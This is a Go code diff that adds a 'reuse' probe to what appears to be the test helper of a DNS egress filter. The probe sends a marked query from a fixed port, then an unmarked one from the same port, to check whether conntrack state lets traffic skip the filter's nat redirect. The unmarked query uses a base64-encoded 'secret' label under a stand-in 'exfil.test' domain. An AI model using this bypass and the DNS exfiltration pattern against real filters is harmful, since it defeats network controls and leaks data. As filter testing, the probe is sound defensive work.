@@ -8,6 +8,7 @@ import (
 	"encoding/json"
 	"fmt"
 	"net"
+	"net/netip"
 	"os"
 	"os/signal"
 	"strings"
@@ -197,6 +198,8 @@ func helperProbe(args []string) int {
 			return fail(err)
 		}
 		return 0
+	case "reuse": // reuse SERVER: a marked query, then an unmarked one from the same port
+		return probeReuse(arg, fail)
 	case "mark": // set SO_MARK as the current user
 		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
 		if err != nil {
@@ -251,4 +254,67 @@ func probeICMP(addr string, fail func(error) int) int {
 			return 0
 		}
 	}
+}
+
+// probeReuse sends a query with the filter's mark from a fixed source port
+// (it is allowed out, creating a conntrack entry), then a query without the
+// mark from the same port to the same server: the 5-tuple matches the
+// entry, so the nat redirect is skipped. It succeeds if the second query
+// is answered.
+func probeReuse(server string, fail func(error) int) int {
+	dst, err := netip.ParseAddrPort(server)
+	if err != nil {
+		return 1
+	}
+	port := 40000 + int(time.Now().UnixNano()%20000)
+	send := func(mark bool, name string) error {
+		fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
+		if err != nil {
+			return err
+		}
+		f := os.NewFile(uintptr(fd), "udp")
+		defer f.Close()
+		unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_REUSEADDR, 1)
+		if mark {
+			if err := unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_MARK, DefaultMark); err != nil {
+				return err
+			}
+		}
+		if err := unix.Bind(fd, &unix.SockaddrInet4{Port: port}); err != nil {
+			return err
+		}
+		if err := unix.Connect(fd, &unix.SockaddrInet4{Port: int(dst.Port()), Addr: dst.Addr().As4()}); err != nil {
+			return err
+		}
+		m := new(dns.Msg)
+		m.SetQuestion(dns.Fqdn(name), dns.TypeA)
+		raw, _ := m.Pack()
+		if _, err := unix.Write(fd, raw); err != nil {
+			return err
+		}
+		tv := unix.NsecToTimeval(int64(time.Second))
+		unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &tv)
+		buf := make([]byte, 512)
+		n, err := unix.Read(fd, buf)
+		if err != nil {
+			return err
+		}
+		r := new(dns.Msg)
+		if err := r.Unpack(buf[:n]); err != nil {
+			return err
+		}
+		if r.Rcode != dns.RcodeSuccess {
+			return fmt.Errorf("rcode %s", dns.RcodeToString[r.Rcode])
+		}
+		return nil
+	}
+	if err := send(true, "api.test"); err != nil {
+		fmt.Println("setup: marked query failed:", err)
+		return 1
+	}
+	if err := send(false, "c2VjcmV0.exfil.test"); err != nil {
+		return fail(err)
+	}
+	fmt.Println("ok: the unmarked query was answered")
+	return 0
 }
